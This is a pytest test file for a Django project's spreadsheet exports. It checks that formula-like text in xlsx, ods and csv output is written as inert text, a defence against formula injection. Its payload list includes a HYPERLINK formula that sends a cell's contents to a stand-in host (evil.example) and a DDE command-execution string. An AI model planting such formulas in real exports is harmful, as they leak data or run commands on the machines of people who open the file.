"""Text a spreadsheet would run as a formula is written as inert text in every export."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from maillage.competencies.spreadsheets import Sheet, read_sheets, write_csv, write_xlsx
from maillage.exports import csv_safe, table_to_ods, table_to_xlsx
from tests.factories import make_task

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(content: bytes) -> list[Any]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", DANGEROUS)
def test_it_writes_formula_like_text_as_a_text_cell_in_xlsx(text: str) -> None:
    content = table_to_xlsx("Plan", ["Tâche"], [[text]])
    cell = _xlsx_cells(content)[1]
    assert cell.data_type == "s"
    assert cell.value == text
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_it_keeps_numbers_numbers_and_plain_text_plain_in_xlsx() -> None:
    cells = _xlsx_cells(table_to_xlsx("Plan", ["A", "B"], [["Diagnostic", -3]]))
    assert [(c.value, c.data_type) for c in cells[2:]] == [("Diagnostic", "s"), (-3, "n")]


def test_it_writes_formula_like_text_as_a_string_cell_in_ods() -> None:
    from odf.opendocument import load
    from odf.table import TableCell

    document = load(io.BytesIO(table_to_ods("Plan", ["Tâche"], [[DANGEROUS[0]]])))
    cell = document.spreadsheet.getElementsByType(TableCell)[1]
    assert cell.getAttribute("valuetype") == "string"
    assert cell.getAttribute("formula") is None
    assert str(cell) == DANGEROUS[0]


@pytest.mark.parametrize("text", DANGEROUS)
def test_it_prefixes_formula_like_text_with_a_quote_in_csv(text: str) -> None:
    content = write_csv(Sheet("Référentiel", [["code", "nom"], ["C1", text]]))
    lines = content.decode("utf-8-sig").splitlines()
    assert lines[0] == "code;nom"
    assert csv_safe(text) == "'" + text
    import csv

    written = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert written[1] == ["C1", "'" + text]


def test_a_csv_it_wrote_reads_back_unchanged() -> None:
    rows = [["code", "nom"], ["C1", "=1+1"], ["C2", "-ordinaire"], ["C3", "'déjà cité"]]
    sheets = read_sheets(SimpleUploadedFile("r.csv", write_csv(Sheet("R", rows))))
    assert sheets[0].rows[1:] == rows[1:]


def test_the_framework_xlsx_writer_writes_formulas_as_text() -> None:
    content = write_xlsx([Sheet("Référentiel", [["code", "nom"], ["C1", DANGEROUS[1]]])])
    cell = _xlsx_cells(content)[3]
    assert (cell.value, cell.data_type) == (DANGEROUS[1], "s")


@pytest.mark.django_db
def test_the_plan_export_of_a_task_titled_like_a_formula_is_inert(
    project: Any, personas: dict
) -> None:
    make_task(project, title=DANGEROUS[0])
    response = personas["partner"].get(reverse("planning_export_xlsx", args=[project.pk]))
    assert response.status_code == 200
    cells = [c for c in _xlsx_cells(response.content) if c.value == DANGEROUS[0]]
    assert cells and all(c.data_type == "s" for c in cells)
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
